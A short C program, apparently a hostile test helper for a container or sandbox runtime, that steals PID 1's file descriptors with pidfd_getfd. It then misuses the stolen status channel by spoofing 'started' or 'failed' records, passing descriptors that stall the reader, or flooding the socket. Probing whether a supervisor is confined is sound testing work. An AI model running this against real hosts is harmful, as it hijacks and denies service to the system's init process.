/* channel-thief rights|started|failed|fill: takes the socket on which PID 1 reports, says how many it got, and misuses each. */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { FDS = 40, FAILED = 1, STARTED = 3 };

static void misuse(int channel, const char *how)
{
    int record[3] = {0}, fds[FDS];
    char control[CMSG_SPACE(sizeof fds)] = {0};
    struct iovec part = {record, sizeof record};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
    if (strcmp(how, "started") == 0)
        record[0] = STARTED;
    if (strcmp(how, "failed") == 0)
        record[0] = FAILED;
    if (strcmp(how, "rights") == 0) {
        message.msg_control = control;
        message.msg_controllen = sizeof control;
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        *header = (struct cmsghdr){CMSG_LEN(sizeof fds), SOL_SOCKET, SCM_RIGHTS};
        for (int i = 0; i < FDS; i++)
            fds[i] = 1; /* whoever has it keeps the reader of our output waiting */
        memcpy(CMSG_DATA(header), fds, sizeof fds);
    }
    int count = strcmp(how, "fill") == 0 ? 1000000 : 3;
    while (count-- > 0 && sendmsg(channel, &message, MSG_DONTWAIT) >= 0)
        ;
}

static int steal_all(int init, int most, const char *how)
{
    int stolen = 0;
    for (int n = 0; n < most; n++) {
        int fd = (int)syscall(SYS_pidfd_getfd, init, n, 0);
        if (fd < 0)
            continue;
        stolen++;
        misuse(fd, how);
    }
    return stolen;
}

/* At once, and again for a while: PID 1 may not be confined yet. To say that the start has failed must come before PID 1 says
 * that it has not. */
int main(int argc, char **argv)
{
    int init = (int)syscall(SYS_pidfd_open, 1, 0), stolen = 0, hurry = argc > 1 && strcmp(argv[1], "failed") == 0;
    for (int tries = 0; argc > 1 && tries < (hurry ? 5000 : 200) && stolen == 0; tries++) {
        stolen = steal_all(init, hurry ? 8 : 256, argv[1]);
        if (!hurry)
            usleep(1000);
    }
    if (hurry)
        pause();
    printf("%d\n", stolen);
    return 7;
}
